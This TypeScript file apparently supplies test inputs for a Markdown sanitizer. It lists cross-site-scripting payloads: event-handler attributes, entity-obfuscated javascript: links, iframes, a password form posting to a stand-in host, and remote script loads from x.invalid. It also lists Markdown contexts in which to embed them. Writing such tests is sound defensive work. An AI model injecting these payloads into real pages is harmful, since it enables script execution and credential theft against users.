/** HTML that runs code, as a Markdown page may contain it. */
export const handlers: readonly string[] = [
  '<img src="https://x.invalid/§.png" onerror="§_call()">',
  '<svg onload="§_call()"></svg>',
  "<svg/onload=§_call()></svg>",
  "<details open ontoggle='§_call()'><summary>More</summary></details>",
  '<video src="https://x.invalid/a.mp4" onerror="§_call()"></video>',
  '<a onclick="§_call()">More</a>',
  "<p onpointerenter=§_call()>More</p>",
  '<button onfocus="§_call()" autofocus>More</button>',
  '<marquee onstart="§_call()">More</marquee>',
  '<b ONCLICK="§_call()">More</b>',
  '<i title=">" onclick="§_call()">More</i>',
  '<i title=\'"\' onclick="§_call()">More</i>',
  '<math><mi onclick="§_call()">x</mi></math>',
  '<svg><animate onbegin="§_call()" attributeName="x" dur="1s"></animate></svg>',
  '<my-note onclick="§_call()">More</my-note>',
  '<p\tonmouseover\t=\t"§_call()">More</p>',
  '<p\nonmouseover="§_call()"\n>More</p>',
  '<p class="a"onclick="§_call()">More</p>',
  '<p onclick="&#120;&#59;§_call()">More</p>',
  '<p hidden="until-found" onbeforematch="§_call()">More</p>',
  '<div popover onbeforetoggle="§_call()">More</div>',
  '<p style="animation: spin 1s" onanimationstart="§_call()">More</p>',
];

/** Links to code, in HTML. */
export const addresses: readonly string[] = [
  '<a href="javascript:§_call()">More</a>',
  '<a href="JaVaScRiPt:§_call()">More</a>',
  "<a href=javascript:§_call()>More</a>",
  '<a href=" javascript:§_call()">More</a>',
  '<a href="&#1;javascript:§_call()">More</a>',
  '<a href="java&Tab;script:§_call()">More</a>',
  '<a href="java&NewLine;script:§_call()">More</a>',
  '<a href="java\tscript:§_call()">More</a>',
  '<a href="javascript&colon;§_call()">More</a>',
  '<a href="&#x6A;avascript&#58;§_call()">More</a>',
  '<a href="&#0000106avascript:§_call()">More</a>',
  '<a href="data:text/html,<script>§_call()</script>">More</a>',
  '<a href="data:text/html;base64,§">More</a>',
  '<svg><a xlink:href="javascript:§_call()"><text>More</text></a></svg>',
  '<map name="m"><area href="javascript:§_call()"></map>',
];

/** Elements that load, replace or collect something. */
export const elements: readonly string[] = [
  '<iframe src="https://x.invalid/§"></iframe>',
  '<iframe srcdoc="<script>§_call()</script>"></iframe>',
  "<iframe srcdoc='&lt;script&gt;§_call()&lt;/script&gt;'></iframe>",
  '<iframe src="javascript:§_call()"></iframe>',
  '<IFRAME SRC="https://x.invalid/§"></IFRAME>',
  '<object data="https://x.invalid/§.html"></object>',
  '<embed src="https://x.invalid/§.html">',
  '<form action="https://x.invalid/§"><input name="password"></form>',
  '<form><button formaction="javascript:§_call()">More</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://x.invalid/§">',
  '<base href="https://x.invalid/§/">',
  '<link rel="stylesheet" href="https://x.invalid/§.css">',
  '<svg><use href="data:image/svg+xml,§"></use></svg>',
  '<svg><set attributeName="href" to="javascript:§_call()"></set></svg>',
];

/** Scripts and styles. */
export const scripts: readonly string[] = [
  "<script>§_call()</script>",
  '<script src="https://x.invalid/§.js"></script>',
  '<SCRIPT SRC="https://x.invalid/§.js"></SCRIPT>',
  '<script\nsrc="https://x.invalid/§.js"></script>',
  '<script/src="https://x.invalid/§.js"></script>',
  '<script type="module">§_call()</script>',
  "<script>\n\n§_call()\n\n</script>",
  "<style>@import url(https://x.invalid/§.css);</style>",
  "<svg><script>§_call()</script></svg>",
  '<div><script src="//x.invalid/§.js"></script></div>',
  '<noscript><p title="</noscript><script>§_call()</script>"></noscript>',
  "<template><script>§_call()</script></template>",
];

/** Places in a Markdown page. Each function returns null for HTML that the place cannot contain. */
export const places: readonly ((html: string) => string | null)[] = [
  inline((html) => `Some text ${html} and more.\n`),
  inline((html) => `- One\n- Two ${html}\n`),
  inline((html) => `1. One\n   - Two\n\n     ${html}\n`),
  inline((html) => `> Quoted ${html}\n`),
  inline((html) => `| a | b |\n| --- | --- |\n| 1 | ${html} |\n`),
  inline((html) => `## Heading ${html}\n`),
  inline((html) => `Heading ${html}\n=====\n`),
  inline((html) => `**bold ${html} text**\n`),
  inline((html) => `[${html}](https://example.com)\n`),
  inline((html) => `> Lazy\n${html}\n`),
  inline((html) => `\\\`${html}\\\`\n`),
  inline((html) => `\`\` code \` ${html}\n`),
  inline((html) => `A \`${"code"}\`${html}\`code\` end\n`),
  (html) => `# Page\n\n${html}\n`,
  (html) => `   ${html}\n`,
  (html) => `<!-- a --> ${html}\n`,
  (html) => `<!--> ${html} -->\n`,
  (html) => `<!---> ${html} -->\n`,
  (html) => `<!-- a --!> ${html} -->\n`,
  (html) => `<![CDATA[ > ${html} ]]>\n`,
  (html) => `<?php > ${html} ?>\n`,
  (html) => `<!X > ${html} >\n`,
  (html) => `\`\`\`js\ncode\n\`\`\`\n\n${html}\n`,
  (html) => `\`\`\`\`\n\`\`\`\n\`\`\`\`\n\n${html}\n\n\`\`\`\`\n\`\`\`\`\n`,
  (html) => `~~~ a\`b\ncode\n~~~\n\n${html}\n`,
  inline((html) => `\`\`\` a\`b\n${html}\n`),
  (html) => `> \`\`\`\n> code\n\n${html}\n\n\`\`\`\n`,
  (html) => `- \`\`\`\n  code\n\n${html}\n\n\`\`\`\n`,
  (html) => `    \`\`\`\n\n${html}\n\n    \`\`\`\n`,
  (html) => `\t\`\`\`\n\n${html}\n\n\t\`\`\`\n`,
  (html) => `Text\u2028\`\`\`\n\n${html}\n\nText\u2028\`\`\`\n`,
  (html) => `Text\u0085\`\`\`\n\n${html}\n\nText\u0085\`\`\`\n`,
  (html) => `Text\f\`\`\`\n\n${html}\n\nText\f\`\`\`\n`,
  (html) => `- Item\n\n    ${html}\n`,
  (html) => `- Item\n\n      code\n\n  ${html}\n`,
  inline((html) => `Text\n    ${html}\n`),
  (html) => `<details>\n<summary>More</summary>\n\n${html}\n\n</details>\n`,
  inline((html) => `<code>${html}</code>\n`),
  inline((html) => `<pre><code>\n${html}\n</code></pre>\n`),
  (html) => `<pre>\n\n${html}\n\n</pre>\n`,
  (html) => `# Page\r\n\r\n${html}\r\n`,
  (html) => `# Page\r\r${html}\r`,
  (html) => `\ufeff${html}\n`,
  (html) => `Null \0 byte\n\n${html}\n`,
  (html) => `---\ntitle: Page\n---\n\n${html}\n`,
  (html) => `\n---\ntitle: Page\n---\n\n${html}\n`,
  (html) => `[a]: https://example.com\n${html}\n`,
  (html) => `Term\n: Definition\n\n${html}\n`,
];

function inline(place: (html: string) => string): (html: string) => string | null {
  return (html) => (html.includes("\n") ? null : place(html));
}

/**
 * Puts each text at the start of a page, and in `more` further places. Each text uses the places that follow those of
 * the previous text in the list.
 */
export function placed(
  texts: readonly string[],
  { more, from = 0 }: { more: number; from?: number },
): string[] {
  let next = from;
  return texts.flatMap((html) => {
    const found = [`${html}\n`];
    for (let i = 0; i < more; i++) {
      const page = places[next++ % places.length]!(html);
      if (page !== null) found.push(page);
    }
    return found;
  });
}

/** Puts each text in every place. */
export function everywhere(texts: readonly string[]): string[] {
  return places.flatMap((place) => texts.map(place)).filter((page) => page !== null);
}
